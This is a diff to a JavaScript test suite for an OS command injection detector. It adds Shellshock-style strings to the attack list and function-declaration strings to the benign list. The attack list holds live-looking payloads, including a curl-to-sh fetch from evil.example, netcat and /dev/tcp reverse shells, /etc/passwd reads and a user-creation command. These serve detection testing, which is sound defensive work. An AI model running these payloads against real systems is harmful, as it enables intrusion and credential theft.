@@ -10,7 +10,7 @@ describe('OS command injection detector', () => {
     '; id', '|whoami', '&& cat /etc/passwd', '`uname -a`', '$(curl http://evil.example/x.sh|sh)', 'a;/usr/bin/id;',
     '127.0.0.1; ping -c 3 evil.example', '%0aid', "w'h'o'am'i;", 'x|/bin/sh -i', '() { :;}; /bin/bash -c id',
     ';cat${IFS}/etc/passwd', '{cat,/etc/passwd}', '& net user hacker Passw0rd /add', '| nc -e /bin/sh 10.0.0.1 4444',
-    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', "<!--#exec cmd=\"ls\" -->", "system('id')", '{{ "".__class__.__mro__ }}',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'User-Agent: () { :; }; echo hi', 'x=() { :;}; ping -c 1 x', "<!--#exec cmd=\"ls\" -->", "system('id')", '{{ "".__class__.__mro__ }}',
     '${@print(md5(1))}', 'sleep 5', 'ls -la /etc',
   ];
   for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
@@ -29,7 +29,8 @@ describe('OS command injection detector', () => {
     for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
     const benign = ['open https://example.com to continue', "type 'yes' to confirm", 'find /docs for help', 'at https://status.example.com we post updates',
       'start https://app.example.com and sign in', "echo \"hello\" back, don't shout",
-      ';; Everyone is granted permission to copy', ';; see the notes below', 'sort by price > 100', 'echo chamber > politics']; // ';;' is a shell syntax error outside `case`
+      ';; Everyone is granted permission to copy', ';; see the notes below', 'sort by price > 100', 'echo chamber > politics',
+      'mixin() {', 'async function main() {']; // a name before '() {' is a function of its own, not an imported shellshock value // ';;' is a shell syntax error outside `case`
   });
 
   describe('markdown inline code holding one English word', () => {
